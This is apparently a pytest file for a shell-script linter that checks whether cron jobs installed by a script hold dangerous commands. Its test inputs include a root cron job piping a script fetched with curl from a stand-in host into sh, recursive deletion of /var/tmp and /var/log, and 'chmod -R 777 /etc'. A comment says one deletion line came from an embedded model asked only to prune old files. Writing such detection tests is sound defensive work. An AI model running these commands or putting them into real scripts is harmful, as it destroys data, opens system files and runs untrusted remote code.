"""Cron lines a script installs are shell code that runs later: the shell rules read them."""

from __future__ import annotations

import pytest

from opsgen.validators import lint_text


def codes(script: str) -> set[tuple[str, int]]:
    report = lint_text(
        "#!/usr/bin/env bash\nset -euo pipefail\n" + script, "bash", ansible_lint=False
    )
    return {(f.code, f.location.line) for f in report.findings if f.code.startswith("OPS1")}


@pytest.mark.parametrize(
    ("script", "code"),
    [
        # What the embedded model wrote for "prune /var/tmp every night".
        (
            '(crontab -l 2>/dev/null || true; echo "0 2 * * * rm -rf /var/tmp") | crontab -\n',
            "OPS107",
        ),
        ("echo '*/5 * * * * root curl -s http://x.invalid/a.sh | sh' > /etc/cron.d/x\n", "OPS101"),
        ("printf '@reboot root chmod -R 777 /etc\\n' | tee /etc/cron.d/y\n", "OPS103"),
        ("cat > /etc/cron.d/z <<'EOF'\n@daily root rm -rf /var/log\nEOF\n", "OPS107"),
    ],
)
def test_dangerous_cron_commands_are_flagged_on_their_line(script: str, code: str) -> None:
    found = codes(script)
    assert code in {c for c, _ in found}, found
    line = next(ln for c, ln in found if c == code)
    assert line >= 3  # on the line that installs the job, after the two preamble lines


@pytest.mark.parametrize(
    "script",
    [
        "echo '30 3 * * * root find /var/tmp -xdev -type f -mtime +7 -delete' > /etc/cron.d/p\n",
        '(crontab -l; echo "15 1 * * * /usr/local/bin/backup --quiet") | crontab -\n',
        "echo 'not a cron line: rm -rf /var/tmp is dangerous'\n",
    ],
)
def test_safe_cron_jobs_and_prose_are_not_flagged(script: str) -> None:
    assert not {c for c, _ in codes(script)} - {"OPS111"}
